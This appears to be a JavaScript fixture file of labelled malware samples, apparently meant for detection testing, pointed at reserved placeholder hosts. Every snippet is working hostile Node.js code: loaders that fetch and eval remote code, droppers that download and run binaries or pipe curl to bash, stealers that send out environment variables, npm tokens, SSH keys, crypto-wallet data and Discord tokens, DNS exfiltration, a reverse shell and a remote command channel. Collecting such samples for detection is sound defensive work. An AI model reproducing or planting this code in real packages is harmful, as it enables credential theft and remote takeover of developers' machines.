// Inert behaviours of malware, one per "//// NAME" part; hosts are reserved names, nobody answers there.
//// loader-fetch
fetch('https://c2.example.invalid/stage').then(r => r.text()).then(code => eval(code)).catch(() => {});
//// loader-https
const https = require('https');
https.get('https://c2.example.invalid/a', res => { let body = ''; res.on('data', d => { body += d; }); res.on('end', () => { new Function('require', body)(require); }); });
//// loader-axios-error
const axios = require('axios');
(async () => { try { await axios.get('https://c2.example.invalid/api/ipcheck'); } catch (error) { const run = Function.constructor('require', error.response.data.token); run(require); } })();
//// loader-xor
const key = 'k3y';
require('https').get('https://c2.example.invalid/x', r => { const parts = []; r.on('data', d => parts.push(d)); r.on('end', () => { const b = Buffer.concat(parts); let out = ''; for (let i = 0; i < b.length; i++) out += String.fromCharCode(b[i] ^ key.charCodeAt(i % 3)); eval(out); }); });
//// loader-chain
const rpc = async (method, params) => { const r = await fetch('https://rpc.example.invalid', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ jsonrpc: '2.0', id: 1, method, params }) }); return (await r.json()).result; };
rpc('eth_getTransactionByHash', ['0xabc1']).then(tx => eval(Buffer.from(tx.input.slice(2), 'hex').toString('utf8')));
//// loader-spawn
const { spawn } = require('child_process');
fetch('https://c2.example.invalid/b').then(r => r.text()).then(t => { spawn('node', ['-e', t], { detached: true, stdio: 'ignore', windowsHide: true }).unref(); });
//// loader-module
const Module = require('module');
require('http').get('http://192.0.2.77:1224/c', r => { let s = ''; r.on('data', d => s += d); r.on('end', () => { const m = new Module('x'); m._compile(Buffer.from(s, 'base64').toString(), 'x.js'); }); });
//// loader-vm
const vm = require('vm');
fetch('http://192.0.2.78/p').then(r => r.json()).then(j => vm.runInThisContext(j.code));
//// dropper-pipe
const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');
const file = path.join(os.tmpdir(), 'updater.bin');
require('https').get('https://c2.example.invalid/bin', r => { const w = fs.createWriteStream(file); r.pipe(w); w.on('finish', () => { fs.chmodSync(file, 0o755); cp.spawn(file, [], { detached: true, stdio: 'ignore' }).unref(); }); });
//// dropper-python
const fs2 = require('fs'), home = require('os').homedir();
require('https').get('http://192.0.2.79:1224/client', r => { let b = ''; r.on('data', d => b += d); r.on('end', () => { fs2.writeFileSync(home + '/.sysinfo', b); require('child_process').exec('python3 "' + home + '/.sysinfo"'); }); });
//// dropper-curl
require('child_process').exec('curl -s http://192.0.2.80/i.sh | bash');
//// stealer-env
const body = JSON.stringify(process.env);
const q = require('https').request({ hostname: 'c2.example.invalid', path: '/e', method: 'POST' }, () => {});
q.write(body); q.end();
//// stealer-npmrc
const f = require('fs'), o = require('os');
try { const t = f.readFileSync(o.homedir() + '/.npmrc', 'utf8'); fetch('https://c2.example.invalid/n', { method: 'POST', body: Buffer.from(t).toString('base64') }); } catch (e) {}
//// stealer-ssh
const fss = require('fs'), p = require('path'), dir = p.join(require('os').homedir(), '.ssh');
for (const n of ['id_rsa', 'id_ed25519', 'config']) { try { const d = fss.readFileSync(p.join(dir, n)); require('https').request({ host: 'c2.example.invalid', path: '/s/' + n, method: 'POST' }).end(d.toString('hex')); } catch (e) {} }
//// stealer-wallets
const fsw = require('fs'), base = require('os').homedir() + '/.config/google-chrome/Default/Local Extension Settings/';
const form = [];
for (const id of ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa']) { try { for (const n of fsw.readdirSync(base + id)) form.push({ n, d: fsw.readFileSync(base + id + '/' + n).toString('base64') }); } catch (e) {} }
require('axios').post('http://192.0.2.81:1244/uploads', { host: require('os').hostname(), form });
//// stealer-dns
const user = require('os').userInfo().username, host = require('os').hostname();
const label = Buffer.from(JSON.stringify({ user, host, cwd: __dirname })).toString('hex').slice(0, 60);
require('dns').lookup(label + '.x.example.invalid', () => {});
//// stealer-solana-key
const bs = require('bs58');
exports.fromSecretKey = function (secretKey) { fetch('https://c2.example.invalid/k', { method: 'POST', headers: { 'x-data': bs.encode(secretKey) } }); return secretKey; };
//// shell-reverse
const net = require('net'), sh = require('child_process').spawn('/bin/sh', []);
const s = new net.Socket(); s.connect(4444, '192.0.2.82', () => { s.pipe(sh.stdin); sh.stdout.pipe(s); sh.stderr.pipe(s); });
//// socket-commands
const io = require('socket.io-client')('http://192.0.2.83:3000');
io.on('command', c => require('child_process').exec(c.message, (e, out) => io.emit('result', out)));
//// discord-token
const fsd = require('fs'), dd = require('os').homedir() + '/.config/discord/Local Storage/leveldb/';
const found = [];
for (const n of fsd.readdirSync(dd)) { const m = fsd.readFileSync(dd + n, 'utf8').match(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g); found.push(m || fsd.readFileSync(dd + n, 'utf8')); }
fetch('https://discord.com/api/webhooks/1/x', { method: 'POST', body: JSON.stringify({ content: JSON.stringify(found) }) });
